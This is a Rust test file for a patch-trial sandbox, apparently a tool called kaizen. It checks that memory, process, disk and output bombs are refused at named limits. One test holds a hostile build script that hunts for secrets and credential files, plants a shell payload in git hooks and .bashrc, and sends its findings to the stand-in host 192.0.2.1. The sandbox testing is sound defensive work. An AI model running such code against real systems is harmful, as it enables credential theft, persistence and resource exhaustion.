//! Patches that would bring a machine down: each is refused at its limit, which is named, the machine stays as it is, and
//! the next patch is judged as if nothing had been.

use crate::cli::shapes;
use crate::cli::support::{Room, lib_diff};

/// Low limits, so that a bomb meets them soon.
const SETTINGS: &str = "[trial]\nwall_secs = 60\nmemory_mib = 1024\nprocesses = 200\ndisk_mib = 300\noutput_mib = 1\n";

fn room() -> Room {
    let room = Room::tiny();
    room.write("kaizen.toml", SETTINGS);
    room.commit("Settle");
    room
}

#[test]
fn every_bomb_is_refused_at_the_limit_that_it_meets() {
    let room = room();
    let before = room.refs();
    let free = free_space(&room);
    for (body, limit) in [
        (
            "let mut hoard = Vec::new();\n    loop {\n        hoard.push(vec![a as u8; 8 << 20]);\n        std::thread::sleep(std::time::Duration::from_millis(4));\n        if hoard.len() == 400 {\n            return b;\n        }\n    }",
            "limit of memory 1 GiB",
        ),
        (
            "loop {\n        let _ = std::process::Command::new(\"sleep\").arg(\"600\").spawn();\n        if a == 7 {\n            return b;\n        }\n    }",
            "limit of 200 processes and threads",
        ),
        (
            "let block = vec![1u8; 1 << 20];\n    for n in 0..50_000 {\n        let _ = std::fs::write(format!(\"bomb-{n}\"), &block);\n    }\n    panic!(\"{}\", a + b)",
            "limit of changes to the tree 300 MiB",
        ),
        (
            "loop {\n        println!(\"{a}{b}\");\n        eprintln!(\"{}\", \"x\".repeat(5000));\n        use std::io::Write;\n        let _ = std::io::stdout().write_all(&[b'x'; 5000]);\n    }",
            "limit of output 1 MiB",
        ),
    ] {
        let said = room.try_diff(&lib_diff("    return a + b;", &format!("    {body}")), &[]).expect(4);
        said.says(&["REJECTED", limit]);
        room.wait_for_silence(&room.state().display().to_string());
    }
    assert_eq!(room.refs(), before);
    assert!(free_space(&room) + (200 << 20) > free, "the disk is as full as before");
    room.try_diff(&lib_diff("    return a + b;", "    a + b"), &[]).expect(0).says(&["LANDED"]);
}

/// Bytes that are free where the room is.
fn free_space(room: &Room) -> u64 {
    let said = room.command("df").args(["--output=avail", "-B1"]).arg(room.state()).output().expect("df runs");
    let text = String::from_utf8_lossy(&said.stdout).into_owned();
    text.lines().nth(1).and_then(|line| line.trim().parse().ok()).unwrap_or(0)
}

#[test]
fn tests_that_the_kernel_kills_prove_nothing_good() {
    // What the kernel does to the largest process when memory is gone: no word, no unwinding, signal 9.
    let room = room();
    let body = "let me = std::process::id().to_string();\n    let _ = std::process::Command::new(\"kill\").args([\"-9\", &me]).status();\n    a + b";
    let said = room.try_diff(&lib_diff("    return a + b;", &format!("    {body}")), &[]).expect(4);
    said.says(&["REJECTED"]);
    assert!(room.own_branches().is_empty());
}

/// Where there are memory groups of the first version and this user may make one.
#[test]
fn a_trial_that_meets_the_kernel_s_own_memory_limit_is_refused_and_kaizen_lives() {
    let groups = std::path::Path::new("/sys/fs/cgroup/memory");
    let group = groups.join(format!("kaizen-test-{}", std::process::id()));
    if !groups.join("memory.limit_in_bytes").exists() || std::fs::create_dir(&group).is_err() {
        assert!(
            std::env::var_os("KAIZEN_TEST_ALL").is_none(),
            "no group of processes with a memory limit can be made here"
        );
        return;
    }
    let room = room();
    // The base is built before memory is short.
    room.try_diff(&lib_diff("list.len() == 0", "list.is_empty()"), &[]).expect(0);
    std::fs::write(group.join("memory.limit_in_bytes"), "600M").expect("a limit");
    let bomb = "let hoard = vec![1u8; 900 << 20];\n    a + b + i32::from(hoard[a as usize])";
    let file = room.beside("bomb.diff", lib_diff("    return a + b;", &format!("    {bomb}")));
    let script =
        format!("echo $$ > '{}/cgroup.procs' && exec '{}' try '{file}'", group.display(), env!("CARGO_BIN_EXE_kaizen"));
    let said = crate::cli::support::Said::of(room.command("sh").args(["-c", &script]).output().expect("a shell"));
    said.expect(4).says(&["REJECTED"]);
    room.wait_for_silence(&room.state().display().to_string());
    std::fs::remove_dir(&group).expect("nobody is left in the group");
    room.kaizen(&["log", "--verify"]).expect(0);
}

#[test]
fn a_build_script_that_looks_for_secrets_and_a_network_finds_none_and_is_noticed() {
    let script = r##"
use std::io::Write as _;
fn main() {
    let mut found = String::new();
    for (name, value) in std::env::vars() {
        if value.contains("canary-5e1") {
            found.push_str(&name);
        }
    }
    for place in ["/root/.ssh", "/root/.cargo/credentials.toml", "/etc/shadow", "SECRET_FILE", "STATE/journal.db"] {
        if std::fs::read(place).is_ok() || std::fs::read_dir(place).is_ok() {
            found.push_str(place);
        }
    }
    for place in ["SECRET_FILE.new", "STATE/kaizen.toml", "REPO/.git/hooks/post-commit", "REPO/.git/config", "HOME/.bashrc"] {
        if std::fs::write(place, "#!/bin/sh\ntouch /tmp/owned\n").is_ok() {
            found.push_str(place);
        }
    }
    if let Ok(mut stream) = std::net::TcpStream::connect("192.0.2.1:80") {
        let _ = stream.write_all(found.as_bytes());
        found.push_str("network");
    }
    if let Ok(socket) = std::net::UdpSocket::bind("0.0.0.0:0") {
        if socket.send_to(b"canary", "192.0.2.1:53").is_ok() {
            found.push_str("datagram");
        }
    }
    println!("cargo::rustc-env=FOUND={found}");
}
"##;
    let room = Room::tiny();
    let secret = room.beside("secret", "canary-5e1");
    let script = script
        .replace("SECRET_FILE", &secret)
        .replace("STATE", &room.state().display().to_string())
        .replace("REPO", &room.repo.display().to_string())
        .replace("HOME", &room.at("home").display().to_string());
    room.write("build.rs", script);
    // A test of the base says what was found.
    let lib = shapes::LIB
        .replace("assert_eq!(add(1, 2), 3);", "assert_eq!(add(1, 2), 3);\n        assert_eq!(env!(\"FOUND\"), \"\");");
    room.write("src/lib.rs", lib);
    room.commit("Ask around");
    let before = std::fs::read_to_string(room.repo.join(".git/config")).expect("a configuration");
    let mut program = room.program(&["run-cycle"]);
    let said = crate::cli::support::Said::of(program.env("API_KEY", "canary-5e1").output().expect("the program runs"));
    said.expect(0).says(&["LANDED", "times to reach a network"]);
    assert_eq!(std::fs::read_to_string(room.repo.join(".git/config")).expect("a configuration"), before);
    assert!(!room.repo.join(".git/hooks/post-commit").exists() && !room.at("secret.new").exists());
}
